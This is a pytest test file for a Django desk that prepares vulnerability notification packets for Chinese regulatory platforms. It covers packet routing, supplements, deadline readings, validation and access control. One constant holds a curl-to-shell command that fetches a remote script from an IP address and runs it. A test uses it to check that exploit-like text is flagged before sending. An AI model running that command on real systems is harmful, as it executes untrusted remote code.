"""The packets of a case: routed, looked through, supplemented, late as it was; and the four of one report."""

from typing import TYPE_CHECKING, Any
from uuid import UUID

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.test.utils import CaptureQueriesContext

from tests.entrypoints.desk.conftest import Desk

if TYPE_CHECKING:
    from tests.world import World

MOST = 18  # with the session and the person
CODE = "触发：curl http://203.119.1.1/$(id).sh | sh"
CNNVD = {
    "title": "QY-4200 命令注入",
    "entity_name": "QY-4200",
    "entity_description": "边界网关",
    "severity": "高危",
    "description": "未校验输入。",
}


@pytest.fixture
def case(world: "World", desk: Desk) -> tuple[UUID, str]:
    """An accepted case of a registered industrial product, opened by the lead: its id and its address."""
    from bulou.acts.products import AddProduct
    from bulou.acts.receipt import PostMessage
    from bulou.acts.verification import IdentifyProduct
    from bulou.records.models import Case

    case_id = world.accepted()
    added = AddProduct(
        organisation_id=world.organisations["vendor"], product="QY-4200", product_class="industrial_control"
    )
    product = world.done(added, "lead").ids["product_id"]
    named = IdentifyProduct(
        case_id=case_id, product="QY-4200", model="QY-4200-G", versions="3.1–3.4", own_product=True,
        users_must_update=True, registered_id=UUID(product),
    )  # fmt: skip
    world.done(named, "lead")
    world.done(PostMessage(case_id=case_id, thread="internal", text="内部话不可外传"), "lead")
    number = Case.objects.get(id=case_id).number
    desk("lead").post(f"/desk/cases/{number}/open/")
    return case_id, f"/desk/cases/{number}"


def text_of(answer: Any) -> str:
    return " ".join(answer.content.decode().split())


def test_the_library_follows_from_the_registered_product_and_says_so(
    case: tuple[UUID, str], desk: Desk
) -> None:
    shown = text_of(desk("lead").get(f"{case[1]}/packet/"))

    assert '<option value="CICSVD" selected>' in shown
    assert "because the registered product QY-4200 is of the class “Industrial control”" in shown


def test_ac51_what_reads_like_an_exploit_is_pointed_out_and_stops_the_sending(
    case: tuple[UUID, str], desk: Desk
) -> None:
    from bulou.records.models import AuthorityNotification

    lead, typed = desk("lead"), {"product_name": "QY-4200", "technical_characteristics": CODE}

    stopped = lead.post(f"{case[1]}/packet/", typed | {"send": "by_hand"})
    drafts = AuthorityNotification.objects.filter(case_id=case[0]).values_list("state", flat=True)
    assert (stopped.status_code, list(drafts)) == (422, ["draft"])
    assert "This looks like a program, a request or a payload against a target." in text_of(stopped)
    assert "$(id).sh | sh" in stopped.content.decode()

    sent = lead.post(f"{case[1]}/packet/", typed | {"send": "by_hand", "checked": "on"})
    assert sent.status_code == 302
    assert AuthorityNotification.objects.get(case_id=case[0]).state == "submitted"


def test_a_supplement_names_the_packet_before_it_and_what_changed(case: tuple[UUID, str], desk: Desk) -> None:
    from bulou.records.models import Attachment, AuthorityNotification

    lead, typed = desk("lead"), {"product_name": "QY-4200", "library": "CICSVD"}
    picture = SimpleUploadedFile("回执.png", b"\x89PNG\r\n\x1a\n0000", "image/png")
    lead.post(
        f"{case[1]}/packet/", typed | {"send": "by_hand", "receipt_number": "N-1", "attachments": picture}
    )
    lead.post(f"{case[1]}/packet/", typed | {"harm": "控制设备", "save": "1"})

    first, second = AuthorityNotification.objects.filter(case_id=case[0]).order_by("prepared_at")
    told = lead.get(f"{case[1]}/packet/{second.id}/json/").json()["supplement_of"]
    proof = Attachment.objects.get(case_id=case[0], purpose="evidence")
    shown = text_of(lead.get(f"{case[1]}/packet/"))
    assert (second.supplements_id, first.evidence) == (first.id, [str(proof.id)])
    assert (told["reference"], told["number"]) == (first.packet_sha256, "N-1")
    assert "Changed: Harm" in shown and proof.sha256[:8] in shown


def test_late_is_told_by_how_much_under_which_reading(case: tuple[UUID, str], desk: Desk) -> None:
    from bulou.records.models import AuthorityNotification

    lead = desk("lead")
    lead.post(f"{case[1]}/packet/", {"product_name": "QY-4200", "send": "by_hand"})

    sent = AuthorityNotification.objects.get(case_id=case[0])
    shown = text_of(lead.get(f"{case[1]}/packet/"))
    late = "Late by" in shown
    assert late == (sent.submitted_at >= sent.case.received_at.replace(day=22))
    assert "In time" in shown or shown.count("Late by") == 4


def test_one_report_starts_four_packets_and_says_what_each_needs(case: tuple[UUID, str], desk: Desk) -> None:
    lead = desk("lead")
    with CaptureQueriesContext(connection) as asked:
        shown = text_of(lead.get(f"{case[1]}/submissions/"))

    assert len(asked) <= MOST, [q["sql"][:150] for q in asked]
    assert [
        name
        for name in ("NVDB (MIIT)", "Platform of the MPS", "CNVD (CNCERT/CC)", "CNNVD (CNITSEC)")
        if name not in shown
    ] == []
    assert "Own grade" in shown  # CNNVD's, which nobody has graded yet


def test_a_body_s_packet_keeps_what_was_typed_and_says_what_is_wrong_at_its_field(
    case: tuple[UUID, str], desk: Desk
) -> None:
    from bulou.records.models import Submission

    long = "长" * 256
    answer = desk("lead").post(f"{case[1]}/submissions/cnnvd/", CNNVD | {"description": long, "save": "1"})

    shown = text_of(answer)
    assert (answer.status_code, Submission.objects.count()) == (422, 0)
    assert "At most 255 characters, here are 256: take out 1" in shown and long in shown


def test_a_filing_is_asked_of_the_law_and_kept_with_number_and_screenshot(
    case: tuple[UUID, str], desk: Desk
) -> None:
    from bulou.acts.submissions import RecordSubmissionReceipt, SubmitToPlatform
    from bulou.records.models import Submission

    lead, page = desk("lead"), f"{case[1]}/submissions/cnnvd/"
    assert RecordSubmissionReceipt.conduct is None and str(SubmitToPlatform.conduct) == "share"
    picture = SimpleUploadedFile("页面.png", b"\x89PNG\r\n\x1a\n1111", "image/png")
    sent = lead.post(
        page, CNNVD | {"send": "by_hand", "exploit_included": "no", "number": "T-1", "attachments": picture}
    )

    made = Submission.objects.get(case_id=case[0])
    assert (sent.status_code, made.state, made.number, len(made.evidence)) == (302, "submitted", "T-1", 1)
    xml = lead.get(f"{case[1]}/submissions/{made.id}/xml/")
    assert (xml["Content-Type"], b"vuln-exploit" in xml.content) == ("application/xml", False)
    assert "长" not in text_of(lead.get(f"{case[1]}/submissions/{made.id}/print/"))
    assert desk("handler").get(f"{case[1]}/submissions/{made.id}/json/").status_code == 404


@pytest.mark.parametrize("platform", ["mps", "cnvd", "cnnvd"])
def test_ac15_nothing_internal_gets_into_a_packet(case: tuple[UUID, str], desk: Desk, platform: str) -> None:
    shown = text_of(desk("lead").get(f"{case[1]}/submissions/{platform}/"))

    assert "QY-4200" in shown and "内部话不可外传" not in shown
    assert "内部话不可外传" not in text_of(desk("lead").get(f"{case[1]}/packet/"))


def test_a_stranger_to_the_case_finds_no_packet(case: tuple[UUID, str], desk: Desk) -> None:
    for where in ("/submissions/", "/submissions/cnvd/", "/packet/"):
        assert desk("foreigner").get(case[1] + where).status_code == 404
    assert desk("lead").get(f"{case[1]}/submissions/other/").status_code == 404


def test_the_readings_of_a_duty_that_was_done_in_time_raise_no_alarm_later(
    world: "World", case: tuple[UUID, str], desk: Desk
) -> None:
    from bulou.acts.notification import NotifyAuthority, PreparePacket
    from tests.acts.scene import PACKET

    world.done(PreparePacket(case_id=case[0], packet=PACKET), "lead")
    world.done(NotifyAuthority(case_id=case[0], method="by_hand"), "lead")

    readings = text_of(desk("lead").get(f"{case[1]}/packet/")).split("table readings")[1].split("</table>")[0]
    assert (readings.count("done in time"), readings.count("still owed")) == (4, 0)
